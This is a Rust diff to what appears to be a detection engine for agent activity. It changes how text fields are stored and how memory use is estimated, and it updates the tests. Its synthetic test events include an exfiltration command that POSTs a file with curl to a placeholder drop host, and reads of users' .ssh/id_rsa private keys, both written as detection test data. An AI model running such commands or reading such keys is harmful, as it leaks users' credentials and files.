@@ -32,14 +32,17 @@ const MAX_EVENT_IDS: usize = 100;
 /// Order of an event waiting for the watermark against `(time, id)`.
 /// What a held event takes in memory, estimated from its contents alone (so
 /// the same events give the same forced releases, live or replayed): the
-/// event itself, and each string's bytes plus the allocator's overhead.
+/// event itself, and the bytes of each string kept outside it plus the
+/// allocator's overhead (short text fields are kept inline, see [`event::Text`]).
 pub fn held_size(e: &Event) -> usize {
     const ALLOC: usize = 16;
-    let text = |s: &Option<String>| s.as_ref().map_or(0, |s| s.len() + ALLOC);
+    const INLINE: usize = std::mem::size_of::<event::Text>();
+    let heap = |len: usize| if len > INLINE { len + ALLOC } else { 0 };
+    let text = |s: &Option<event::Text>| s.as_ref().map_or(0, |s| heap(s.len()));
     std::mem::size_of::<Event>()
         + e.event_id.len()
-        + e.tenant.len()
-        + 2 * ALLOC
+        + ALLOC
+        + heap(e.tenant.len())
         + [
             &e.product,
             &e.action,
@@ -947,11 +950,11 @@ fn build_alert(
         title: rule.info.title.clone(),
         severity: rule.info.severity,
         tags: rule.info.tags.clone(),
-        tenant: e.tenant.clone(),
+        tenant: e.tenant.to_string(),
         key,
-        user: e.user.clone(),
-        session: e.session.clone(),
-        host: e.host.clone(),
+        user: e.user.as_deref().map(str::to_owned),
+        session: e.session.as_deref().map(str::to_owned),
+        host: e.host.as_deref().map(str::to_owned),
         time: e.time,
         first_seen,
         last_seen,
@@ -1002,7 +1005,7 @@ mod tests {
             tenant: "default".into(),
             kind,
             user: Some(user.into()),
-            session: Some(format!("s-{user}")),
+            session: Some(format!("s-{user}").into()),
             ..Default::default()
         };
         e.event_id = e.compute_id();
@@ -1115,7 +1118,7 @@ mod tests {
         let events: Vec<Event> = (0..40)
             .map(|i| {
                 let mut e = ev(T0 + i * S / 10, EventKind::FileRead, &format!("u{i:02}"));
-                e.path = Some(format!("/{i}/{}", "x".repeat(100_000)));
+                e.path = Some(format!("/{i}/{}", "x".repeat(100_000)).into());
                 e.event_id = e.compute_id();
                 e
             })
@@ -1463,7 +1466,7 @@ mod tests {
             let e = match next() % 7 {
                 0 => ev(t, EventKind::UserPrompt, u),
                 1 | 2 => with(ev(t, EventKind::FileRead, u), |e| {
-                    e.path = Some(format!("/home/{u}/f{}.txt", next() % 9))
+                    e.path = Some(format!("/home/{u}/f{}.txt", next() % 9).into())
                 }),
                 3 => with(ev(t, EventKind::ConnectorAction, u), |e| {
                     e.action = Some("send".into())
@@ -1472,7 +1475,7 @@ mod tests {
                     e.command = Some("curl -X POST -d @x https://drop.example.net/u".into())
                 }),
                 5 => with(ev(t, EventKind::FileRead, u), |e| {
-                    e.path = Some(format!("/home/{u}/.ssh/id_rsa"))
+                    e.path = Some(format!("/home/{u}/.ssh/id_rsa").into())
                 }),
                 _ => with(ev(t, EventKind::ToolCall, u), |e| {
                     e.tool = Some("Bash".into())
